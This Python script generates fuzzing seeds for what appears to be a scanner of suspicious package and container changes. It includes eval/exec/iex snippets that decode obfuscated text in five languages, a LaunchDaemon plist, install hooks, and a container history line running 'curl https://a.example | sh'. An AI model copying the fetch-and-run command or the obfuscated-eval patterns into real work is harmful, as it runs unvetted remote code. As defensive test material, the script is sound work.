#!/usr/bin/env python3
"""Writes seeds for the fuzz targets, one file each:

    seeds.py common FOLDER                  one container of each kind by its real maker, the hostile corpus
    seeds.py members FOLDER                 files that the tests of places and of twins change, for fuzz_member
    seeds.py proofs FOLDER                  proofs of tests/ledger-suite with their files and trust files, for fuzz_verify
    seeds.py calls LANGUAGE FOLDER          a file for each function that the folder of constants knows, called in many ways
    seeds.py stamps FOLDER                  signatures with a time by somebody else
    seeds.py literals HEADS FOLDER TEST...  texts of unit tests; HEADS is two characters of which the first stands
                                            before a text, the second before a pair, or nothing

Nothing says which of the common ones is for which target: a fuzzer keeps what brings it further. Inputs of more than
MOST_BYTES are left out, since a fuzzer gets slow with them.
"""

import hashlib
import json
import os
import plistlib
import re
import struct
import subprocess
import sys
import tempfile
import zlib

sys.dont_write_bytecode = True
TESTS = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "tests")
for part in ("make", "props", "cases", "places", "twins"):
    sys.path.insert(0, os.path.join(TESTS, part))

MOST_BYTES = 256 << 10
LEAST_CHARACTERS = 12
TREE = {"package/index.js": b"'use strict';\nmodule.exports = (a, b) => a + b;\n" * 40, "package/bin/run": b"#!/bin/sh\nexec node x\n",
        "package/package.json": b'{"name": "sample", "version": "1.0.0"}\n'}


def keep(folder, data):
    if 0 < len(data) <= MOST_BYTES:
        with open(os.path.join(folder, hashlib.sha256(data).hexdigest()[:24]), "wb") as f:
            f.write(data)


def common(folder):
    import hostile
    import kinds
    for case in hostile.collect():
        keep(folder, case.build())
    with tempfile.TemporaryDirectory() as work:
        os.environ["KINDS_KEYS"] = os.path.join(work, "keys")
        os.makedirs(os.environ["KINDS_KEYS"])
        for name, _, maker in kinds.KINDS:
            target = os.path.join(work, "sample." + name)
            maker(TREE, target)
            with open(target, "rb") as f:
                keep(folder, f.read())


def member(path, old, new):
    """What fuzz_member takes."""
    parts = [x if isinstance(x, bytes) else str(x).encode("utf-8", "surrogateescape") for x in (path, old or "", new)]
    return parts[0] + b"\n" + parts[1] + b"\n\xff\n" + parts[2]


def signed(text, who="Sample"):
    """By a key that is made for it and kept nowhere."""
    with tempfile.TemporaryDirectory() as work:
        run = ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=%s/O=%s" % (who, who), "-keyout", "key", "-out", "cert"]
        subprocess.run(run, cwd=work, check=True, stderr=subprocess.DEVNULL)
        with open(os.path.join(work, "text"), "w", encoding="ascii") as f:
            f.write(text)
        return subprocess.run(["openssl", "cms", "-sign", "-binary", "-in", "text", "-signer", "cert", "-inkey", "key", "-outform", "DER"],
                              cwd=work, check=True, stdout=subprocess.PIPE).stdout


def der(tag, *parts):
    body = b"".join(parts)
    size = bytes([len(body)]) if len(body) < 128 else b"\x82" + struct.pack(">H", len(body))
    return bytes([tag]) + size + body


def der_parts(body):
    """Elements one behind the other, each (tag, content)."""
    while body:
        at, size = 2, body[1]
        if size > 127:
            at, size = 2 + size - 128, int.from_bytes(body[2:2 + size - 128], "big")
        yield body[0], body[at:at + size]
        body = body[at + size:]


def with_attribute(whole, oid, value):
    """A CMS whose signer has an attribute that is not signed; `value` gets the signer as it was."""
    (_, info), = der_parts(whole)
    (_, kind), (_, content) = der_parts(info)
    (_, data), = der_parts(content)
    *others, (_, signers) = der_parts(data)
    (_, signer), = der_parts(signers)
    signer += der(0xa1, der(0x30, der(6, oid), der(0x31, value(signer))))
    data = b"".join(der(tag, part) for tag, part in others) + der(0x31, der(0x30, signer))
    return der(0x30, der(6, kind), der(0xa0, der(0x30, data)))


def stamps(folder):
    """Signatures with a time by somebody else: RFC 3161 in Authenticode's attribute, and a counter-signature."""
    info = der(0x30, der(2, b"\1"), der(6, b"\x2a\3"), der(0x30), der(2, b"\1"), der(0x18, b"20250102030405Z"))
    token = der(0x30, der(6, b"\x2a\x86\x48\x86\xf7\x0d\1\7\2"), der(0xa0, der(0x30, der(2, b"\3"), der(0x31), der(
        0x30, der(6, b"\x2a\3"), der(0xa0, der(4, info))))))
    keep(folder, with_attribute(signed("one"), b"\x2b\6\1\4\1\x82\x37\3\3\1", lambda signer: token))
    keep(folder, with_attribute(signed("one"), b"\x2a\x86\x48\x86\xf7\x0d\1\x09\6", lambda signer: der(0x30, signer)))


def section(number, *parts):
    body = b"".join(parts)
    return bytes([number, len(body)]) + body


def word(text):
    return bytes([len(text)]) + text


def wasm(*calls, more=b""):
    """Imports of each kind, an export, a piece of data."""
    what = [b"\0\0"] * len(calls) + [b"\1\x70\1\1\2", b"\2\0\1", b"\3\x7f\0", b"\4\0\0"]
    imports = [word(b"env") + word(name) + kind for name, kind in zip(calls + (b"table", b"memory", b"global", b"tag"), what)]
    return b"\0asm\1\0\0\0" + section(1, b"\1\x60\0\0") + section(2, bytes([len(imports)]), *imports) + section(
        3, b"\1\0") + section(7, b"\1", word(b"run"), b"\0\1") + section(10, b"\1\4\0\x10\0\x0b") + section(
            11, b"\1\0\x41\0\x0b", word(b"https://a.example/x")) + section(0, word(b"name"), b"\0\2\1a") + more


def electron(states, wires=1):
    """A program with the fuses of Electron; no other byte 0xff."""
    wire = b"dL7pKGdnNz796PbbjQWNKmHXBZaB9tsX" + bytes([1, len(states)]) + states
    image = b"\0" * 56 + wire * wires
    return struct.pack("<16sHHIQQQIHHHHHH", b"\x7fELF\2\1\1", 2, 62, 1, 0, 64, 0, 0, 64, 56, 1, 0, 0, 0) + struct.pack(
        "<IIQQQQQQ", 1, 5, 0, 0, 0, 120 + len(image), 120 + len(image), 4096) + image


def beside():
    """(path, OLD, NEW) of files whose kind their bytes or their place in a container say."""
    agent = {"Label": "a.example", "ProgramArguments": ["/bin/sh", "-c", "date"], "RunAtLoad": True, "StartInterval": 300}
    image = "cmd %s\nentrypoint /bin/%s\nenv PATH=/usr/%s\nuser %s\nexpose 80/tcp\nhistory RUN %s\n"
    package = "<pkg-info identifier=\"a.example\" version=\"%d\" auth=\"root\"><scripts>%s</scripts></pkg-info>\n"
    yield "LaunchDaemons/a.plist", plistlib.dumps(dict(agent, Label="b"), fmt=plistlib.FMT_BINARY), plistlib.dumps(
        agent, fmt=plistlib.FMT_BINARY)
    yield "a.app/Contents/Info.plist", "", plistlib.dumps({"CFBundleExecutable": "a", "LSEnvironment": {"A": "\u00fc"}, "n": [1.5, b"x"]},
                                                          fmt=plistlib.FMT_BINARY)
    yield "x.tar!/[image]", image % (("nginx",) * 5), image % (("curl https://a.example | sh",) * 5)
    yield "x.pkg!/PackageInfo", package % (1, ""), package % (2, "<preinstall file=\"./preinstall\"/><postinstall file=\"./run\"/>")
    yield "lib/x.wasm", wasm(b"log"), wasm(b"log", b"fd_write")
    yield "lib/x.wasm", "", wasm(b"log", more=b"\x7fbehind")
    yield "lib/x.wasm", wasm(b"log"), wasm(b"log", more=section(2, b"\1", word(b"env"), word(b"x"), b"\7"))
    yield "lib/x.wasm", wasm(b"log"), wasm(b"log", more=section(7, b"\2", word(b"run"), b"\0\x80\x80\x80\x80\x80\x80"))
    yield "lib/x.wasm", wasm(b"log"), wasm(b"log", more=b"\3\x70")
    yield "electron", electron(b"01001100", 2), electron(b"10110r11", 2)
    yield "electron", electron(b"0100110"), electron(b"0100110000")
    for mark, coding in ((b"\xff\xfe", "utf-16-le"), (b"\xfe\xff", "utf-16-be"), (b"\xef\xbb\xbf", "utf-8")):
        yield "x.js", "", mark + "eval('\U0001f600 \u00fc')\n".encode(coding)
    yield "x.js", "", b"\xff\xfe" + b"e\0\0\xd8a\0"
    yield "x.p7s", "", signed("one")
    yield "x.p7s", signed("one"), signed("two", "Another")
    yield "x.p7s", signed("one"), signed("one")


def members(folder):
    import cases
    import rows
    for path, old, new in beside():
        keep(folder, member(path, old, new))
    for case in cases.CASES.values():
        for new in (case["bad"], case["good"]):
            keep(folder, member(case["path"], case["old"], new))
    for row in rows.ROWS:
        for path, text in row.new.items():
            if row.old.get(path) != text:
                keep(folder, member(path, row.old.get(path), text))


def proofs(folder):
    """Around bytes 0xff, as fuzz_verify takes them."""
    suite = os.path.join(TESTS, "ledger-suite")
    for name in sorted(n for n in os.listdir(suite) if n.endswith(".jsonl")):
        with open(os.path.join(suite, name), encoding="utf-8") as f:
            for case in map(json.loads, f):
                keep(folder, b"\xff".join(case[part].encode() for part in ("proof", "file", "trust")))


LITERAL = r'"(?:[^"\\\n]|\\.)*"'


def preprocessed(path):
    """With the file's own macros in their places."""
    with open(path, encoding="utf-8") as f:
        own = re.sub(r"^#include .*$", "", f.read(), flags=re.M)
    return subprocess.run(["cc", "-E", "-P", "-x", "c", "-"], input=own.encode(), check=True, stdout=subprocess.PIPE).stdout.decode()


def unnamed(source):
    """With texts where their names stand."""
    named = dict(re.findall(r"static const char (\w+)\[\] =\s*((?:%s\s*)+);" % LITERAL, source))
    return re.sub(LITERAL + r"|\b\w+\b", lambda m: named.get(m.group(0), m.group(0)), source)


def c_literals(source):
    """Runs of arguments that are string literals, each a list of bytes."""
    for run in re.findall(r"%s(?:\s*,?\s*%s)*" % (LITERAL, LITERAL), source):
        texts = [b""]
        for part in re.findall(LITERAL + "|,", run):
            if part == ",":
                texts.append(b"")
            else:
                texts[-1] += re.sub(r"\\(x[0-9a-fA-F]+|[0-7]{1,3}|.)", plain, part[1:-1]).encode("utf-8", "surrogateescape")
        yield texts


def frames(source):
    """What a test prints its texts into: at most two of them."""
    for call in re.findall(r"printf\([^;\"]*(%s(?:\s*%s)*)" % (LITERAL, LITERAL), source):
        for texts in c_literals(call):
            parts = re.split(rb"%(?:\.\*)?s", texts[0].replace(b"%%", b"\0"))
            if len(parts) in (2, 3) and b"%" not in b"".join(parts) and b"".join(parts).strip():
                yield [part.replace(b"\0", b"%") for part in parts]


def plain(escape):
    what = escape.group(1)
    named = {"n": "\n", "t": "\t", "r": "\r", "a": "\a", "b": "\b", "f": "\f", "v": "\v"}
    if what[0] == "x" or what[0].isdigit():
        value = int(what[1:], 16) if what[0] == "x" else int(what, 8)
        return bytes([value & 255]).decode("utf-8", "surrogateescape")
    return named.get(what, what)


def literals(heads, folder, *tests):
    for name in tests:
        source = preprocessed(os.path.join(TESTS, "unit", name))
        around = list(frames(source))
        for texts in c_literals(unnamed(source)):
            long_ones = [t for t in texts if len(t) >= LEAST_CHARACTERS]
            for text in long_ones:
                keep(folder, heads[:1].encode() + text)
            for old, new in zip(long_ones, long_ones[1:]):
                keep(folder, heads[1:].encode() + old + b"\xff" + new)
            for parts in around:
                for before, text in zip([b""] + texts, texts):
                    keep(folder, heads[:1].encode() + (parts[0] + text + parts[1] if len(parts) == 2 else
                                                       parts[0] + before + parts[1] + text + parts[2]))


# How a language runs a text, what stands in front, its texts, numbers, lists and functions; and how a name of the table is
# called (before the last dot, behind it, receiver or arguments).
PACKED = zlib.compress(b"print(1)")
LANGUAGES = {
    "py": {"run": "exec(%s)\n", "first": "import base64, binascii, bz2, codecs, functools, gzip, itertools, lzma, operator, string, urllib.parse, zlib\n",
           "texts": ["'cHJpbnQoMSk='", "b'7072696e74283129'", "'utf-8'", "'\\u0416'", "b'%s'" % "".join("\\x%02x" % c for c in PACKED)],
           "lists": ["[112, 114]", "('a', 'b')", "{'a': 'b', 1: [2]}", "range(3)"], "functions": ["lambda *a: a[0]", "chr"],
           "static": "%s.%s", "list": "list", "dict": "{'a': 'b', 1: [2]}"},
    "php": {"run": "eval(%s);\n", "first": "<?php\n",
            "texts": ["'cHJpbnQoMSk='", "'7072696e74283129'", "'H*'", "'C*'", "\"%s\"" % "".join("\\x%02x" % c for c in PACKED)],
            "lists": ["array(112, 114)", "['a' => 'b', 'c' => 'd']", "array('a', 'b')"], "functions": ["function ($x) { return $x; }", "'strrev'"],
            "static": "%s::%s"},
    "ps": {"run": "iex (%s)\n", "first": "", "texts": ["'cHJpbnQoMSk='", "\"7072`n96\"", "'{0}{1,4:x}'", "','"],
           "lists": ["@(112, 114)", "@('a', 'b')", "[byte[]](%s)" % ",".join(map(str, PACKED))], "functions": ["{ $_ }", "[char[]]'abc'"],
           "static": "[%s]::%s"},
    "rb": {"run": "eval(%s)\n", "first": "", "texts": ["'cHJpbnQoMSk='", "'7072696e74283129'", "'a-y'", "'m0'", "'H*'", "\"\\u{70}\\162\\x69\\u006e\""],
           "lists": ["[112, 114]", "['a', 'b']", "(0..2)"], "functions": ["&:chr", "/[a-c]/"], "static": "%s.%s"},
    "js": {"run": "eval(%s);\n", "first": "0\n",  # the head that fuzz_js wants
           "texts": ["'cHJpbnQoMSk='", "'7072696e74283129'", "'hex'", "'%70\\u{1f600}'", "`${1}b`"],
           "lists": ["[112, 114]", "['a', ['b']]", "{a: 'b', 1: [2]}"], "functions": ["(a, b) => a + b", "String.fromCharCode", "/(.)([a-c])+?/gi"],
           "static": "%s.%s"},
}
OWNED = {"Math": "floor ceil round abs min max pow random sqrt trunc sign imul", "JSON": "parse stringify", "Object": "keys values entries assign",
         "Buffer": "from alloc concat", "String": "fromCharCode fromCodePoint raw", "Array": "from of isArray", "Number": "parseInt isNaN",
         "RegExp": "escape", "Reflect": "get apply"}


def spoken(language, name):
    """A name of the table as the language writes it: callees, and whether they are methods."""
    words = LANGUAGES[language]
    kind, _, rest = name.partition(".")
    if kind in ("#str", "#list", "#dict", "#num", "#"):
        own = {"#str": words["texts"][:2], "#list": words["lists"][:2], "#dict": words["lists"][2:3], "#num": ["112"]}.get(kind, [])
        return ["%s.%s" % (x, rest) for x in own]
    if language == "rb":
        name = name.replace("Zlib.Inflate", "Zlib::Inflate")
    if language == "ps" and "." in name:
        at = 3 if name.startswith("text.encoding.") and name.count(".") == 3 else 0
        parts = name.split(".")
        return ["[%s]::%s.%s" % (".".join(parts[:2]), parts[2], parts[3])] if at else ["[%s]::%s" % tuple(name.rsplit(".", 1))]
    return [name]


def arguments(words):
    texts, lists, functions = words["texts"], words["lists"], words["functions"]
    yield from [[]] + [[x] for x in texts + lists + functions[:1] + ["112"]]
    yield from [[texts[0], texts[1]], [texts[0], "1"], [texts[0], functions[0]], [functions[0], lists[0]], [functions[1], lists[0]], [lists[0], texts[0]]]
    yield from [[texts[0], "1", "2"], ["'a'", "'b'", texts[0]], [lists[-1], lists[-1], texts[0]], ["2", "3"]]


def names_of(language):
    with open(os.path.join(os.path.dirname(TESTS), "src", "read", language + "_fold.c"), encoding="utf-8") as f:
        source = f.read()
    if language != "js":
        return re.findall(r'\{"([^"$]+)", ', source)
    names = re.findall(r'\{"(\w+)", ([NM])_', source)
    own = [base + "." + one for base, ones in OWNED.items() for one in ones.split()]
    return own + [name for name, kind in names if kind == "N"] + ["%s.%s" % (kind, name) for name, which in names if which == "M" for kind in ("#str", "#list")]


def calls(language, folder):
    words = LANGUAGES[language]
    for name in names_of(language):
        lines = [words["run"] % ("%s(%s)" % (callee, ", ".join(given))) for callee in spoken(language, name) for given in arguments(words)]
        keep(folder, (words["first"] + "".join(lines)).encode("utf-8"))


def main(argv):
    modes = {"calls": calls, "common": common, "members": members, "proofs": proofs, "stamps": stamps, "literals": literals}
    if len(argv) < 3 or argv[1] not in modes:
        sys.exit(__doc__)
    os.makedirs(argv[3 if argv[1] in ("calls", "literals") else 2], exist_ok=True)
    modes[argv[1]](*argv[2:])


if __name__ == "__main__":
    main(sys.argv)
